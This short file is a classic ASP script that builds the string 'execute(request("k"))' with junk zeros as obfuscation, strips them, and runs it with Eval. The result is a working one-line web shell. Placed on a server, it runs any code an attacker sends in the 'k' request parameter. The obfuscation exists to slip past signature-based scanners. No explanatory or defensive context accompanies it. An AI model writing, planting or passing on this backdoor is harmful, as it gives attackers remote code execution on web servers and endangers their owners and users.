<%
c = "ex0ec0ute(req0uest(""k""))"
c = Replace(c, "0", "")
Eval c
%>
